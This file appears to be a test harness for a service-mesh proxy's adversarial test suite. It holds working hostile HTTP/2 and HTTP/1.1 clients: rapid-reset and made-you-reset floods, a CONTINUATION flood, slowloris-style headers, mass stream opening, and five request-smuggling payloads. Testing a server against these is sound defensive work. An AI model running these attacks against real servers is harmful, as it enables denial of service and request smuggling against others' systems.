"""Hostile HTTP/2 and HTTP/1.1 clients for tests/tests/adversarial.rs.

One attack per run, against HOST:PORT, in clear text or over mutual TLS with the mesh
certificate an enrolled pod holds (--cert/--key/--ca, ALPN h2). Frames are built with
hyperframe and hpack (the `h2` package's own), so that what no well-behaved client sends
can be sent. Prints one JSON line: what the server answered and how the attack ended.

Attacks (every loop is bounded by --count and by --seconds):
  rapid_reset     HEADERS then RST_STREAM(CANCEL), stream after stream (CVE-2023-44487)
  made_you_reset  HEADERS the server must reset (two differing content-lengths), stream
                  after stream, the client never resetting (CVE-2025-8671)
  continuation    one HEADERS without END_HEADERS, then CONTINUATION frames without end
  slow_headers    the preface, then a HEADERS frame one byte at a time (slowloris)
  streams         --count streams opened at once and held
  smuggle         HTTP/1.1 requests with ambiguous framing, one connection each
"""

import argparse
import json
import select
import socket
import ssl
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    HeadersFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GOAWAY, RST_STREAM, HEADERS = 0x7, 0x3, 0x1
CANCEL, REFUSED_STREAM = 0x8, 0x7
# Seconds waited for answers after each batch of 50 streams or frames.
PACE = 0.05


def connect(args):
    sock = socket.create_connection((args.host, args.port), timeout=5)
    if args.cert:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.load_cert_chain(args.cert, args.key)
        ctx.load_verify_locations(args.ca)
        # SPIFFE certificates name no host: the chain is checked, the name is not.
        ctx.check_hostname = False
        ctx.set_alpn_protocols(["h2"])
        sock = ctx.wrap_socket(sock)
    sock.settimeout(5)
    return sock


class Seen:
    """What the server sent, read frame by frame."""

    def __init__(self):
        self.buf = b""
        self.goaway = None
        self.debug = ""
        self.closed = False
        self.frames = {}
        self.resets = {}

    def feed(self, data):
        self.buf += data
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[0:3], "big")
            if len(self.buf) < 9 + length:
                return
            kind = self.buf[3]
            payload = self.buf[9 : 9 + length]
            self.buf = self.buf[9 + length :]
            self.frames[kind] = self.frames.get(kind, 0) + 1
            if kind == GOAWAY and len(payload) >= 8:
                self.goaway = int.from_bytes(payload[4:8], "big")
                self.debug = payload[8:].decode("utf-8", "replace")
            if kind == RST_STREAM and len(payload) >= 4:
                code = int.from_bytes(payload[0:4], "big")
                self.resets[code] = self.resets.get(code, 0) + 1

    def read(self, sock, wait):
        """Reads what is there, waiting up to `wait` seconds for the first bytes."""
        deadline = time.monotonic() + wait
        while not self.closed:
            pending = isinstance(sock, ssl.SSLSocket) and sock.pending() > 0
            left = max(0.0, deadline - time.monotonic())
            if not pending and not select.select([sock], [], [], left)[0]:
                return
            try:
                data = sock.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError):
                return
            except OSError:
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            self.feed(data)
            deadline = time.monotonic()

    def report(self):
        return {
            "goaway": self.goaway,
            "debug": self.debug,
            "closed": self.closed,
            "headers": self.frames.get(HEADERS, 0),
            "refused": self.resets.get(REFUSED_STREAM, 0),
        }


def request_headers(args):
    if args.connect:
        return [(":method", "CONNECT"), (":authority", args.authority)]
    return [
        (":method", "GET"),
        (":scheme", "http"),
        (":path", "/"),
        (":authority", args.authority),
    ]


def send(sock, seen, data):
    try:
        sock.sendall(data)
        return True
    except OSError:
        # The server stopped reading or closed: what it sent last may still be there.
        seen.read(sock, 1)
        seen.closed = True
        return False


def start(sock):
    return PREFACE + SettingsFrame(0).serialize()


def flood(args, sock, seen, frames_of_stream):
    """Sends stream after stream (in batches of 50) until the server ends it or the bounds."""
    deadline = time.monotonic() + args.seconds
    sent = 0
    send(sock, seen, start(sock))
    stream = 1
    while sent < args.count and time.monotonic() < deadline and seen.goaway is None:
        batch = b""
        for _ in range(50):
            batch += frames_of_stream(stream)
            stream += 2
            sent += 1
        if not send(sock, seen, batch):
            break
        # A moment to read what came back: a server closing with our bytes unread resets
        # the connection, and its GOAWAY would be lost unread.
        seen.read(sock, PACE)
    seen.read(sock, 3)
    return {"sent": sent}


def rapid_reset(args, sock, seen):
    encoder = Encoder()
    headers = request_headers(args)

    def frames(stream):
        h = HeadersFrame(stream, flags=["END_HEADERS", "END_STREAM"])
        h.data = encoder.encode(headers)
        return h.serialize() + RstStreamFrame(stream, error_code=CANCEL).serialize()

    return flood(args, sock, seen, frames)


def made_you_reset(args, sock, seen):
    encoder = Encoder()
    headers = request_headers(args) + [("content-length", "1"), ("content-length", "2")]

    def frames(stream):
        h = HeadersFrame(stream, flags=["END_HEADERS"])
        h.data = encoder.encode(headers)
        return h.serialize()

    return flood(args, sock, seen, frames)


def continuation(args, sock, seen):
    encoder = Encoder()
    deadline = time.monotonic() + args.seconds
    h = HeadersFrame(1, flags=["END_STREAM"])
    h.data = encoder.encode(request_headers(args))
    send(sock, seen, start(sock) + h.serialize())
    sent = 0
    while sent < args.count and time.monotonic() < deadline and seen.goaway is None:
        batch = b""
        for _ in range(50):
            c = ContinuationFrame(1)
            c.data = encoder.encode([("x-flood-%d" % sent, "a" * 64)])
            batch += c.serialize()
            sent += 1
        if not send(sock, seen, batch):
            break
        seen.read(sock, PACE)
    seen.read(sock, 3)
    return {"sent": sent}


def slow_headers(args, sock, seen):
    started = time.monotonic()
    send(sock, seen, start(sock))
    h = HeadersFrame(1, flags=["END_HEADERS", "END_STREAM"])
    h.data = Encoder().encode(request_headers(args) + [("x-slow", "a" * 200)])
    sent = 0
    for byte in h.serialize():
        if time.monotonic() - started > args.seconds or seen.closed:
            break
        if not send(sock, seen, bytes([byte])):
            break
        sent += 1
        seen.read(sock, 0.5)
    if not seen.closed:
        seen.read(sock, 2)
    return {"sent": sent, "seconds": round(time.monotonic() - started, 1)}


def streams(args, sock, seen):
    encoder = Encoder()
    headers = request_headers(args)
    batch = start(sock)
    for i in range(args.count):
        h = HeadersFrame(2 * i + 1, flags=["END_HEADERS"])
        h.data = encoder.encode(headers)
        batch += h.serialize()
    send(sock, seen, batch)
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline and not seen.closed:
        seen.read(sock, 0.5)
        if seen.frames.get(HEADERS, 0) + seen.resets.get(REFUSED_STREAM, 0) >= args.count:
            break
    return {"sent": args.count}


SMUGGLED = "GET /smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n"


def smuggling_cases(host):
    smuggled = SMUGGLED.format(host=host)
    h = "Host: %s\r\n" % host
    return {
        "cl_te": "POST /first HTTP/1.1\r\n%sContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n%s"
        % (h, 5 + len(smuggled), smuggled),
        "te_cl": "POST /first HTTP/1.1\r\n%sTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n%s"
        % (h, smuggled),
        "two_content_lengths": "POST /first HTTP/1.1\r\n%sContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello!%s"
        % (h, smuggled),
        "te_not_chunked_last": "POST /first HTTP/1.1\r\n%sTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n%s"
        % (h, smuggled),
        "obs_fold": "GET /first HTTP/1.1\r\n%sX-Folded: a\r\n b\r\n\r\n%s" % (h, smuggled),
    }


def smuggle(args):
    results = {}
    for name, raw in smuggling_cases(args.authority).items():
        sock = connect(args)
        sock.sendall(raw.encode())
        out = b""
        deadline = time.monotonic() + 10
        closed = False
        while time.monotonic() < deadline:
            if not select.select([sock], [], [], max(0.0, deadline - time.monotonic()))[0]:
                break
            try:
                data = sock.recv(65536)
            except OSError:
                closed = True
                break
            if not data:
                closed = True
                break
            out += data
        sock.close()
        lines = out.decode("latin-1").split("\r\n")
        results[name] = {
            "statuses": [l for l in lines if l.startswith("HTTP/1.")],
            "closed": closed,
        }
    return results


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack")
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--authority", required=True)
    parser.add_argument("--connect", action="store_true", help="CONNECT streams (HBONE)")
    parser.add_argument("--cert")
    parser.add_argument("--key")
    parser.add_argument("--ca")
    parser.add_argument("--count", type=int, default=10000)
    parser.add_argument("--seconds", type=float, default=30)
    args = parser.parse_args()
    started = time.monotonic()
    if args.attack == "smuggle":
        report = {"cases": smuggle(args)}
    else:
        attacks = {
            "rapid_reset": rapid_reset,
            "made_you_reset": made_you_reset,
            "continuation": continuation,
            "slow_headers": slow_headers,
            "streams": streams,
        }
        sock = connect(args)
        seen = Seen()
        report = attacks[args.attack](args, sock, seen)
        report.update(seen.report())
        sock.close()
    report["attack"] = args.attack
    report.setdefault("seconds", round(time.monotonic() - started, 1))
    print(json.dumps(report))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
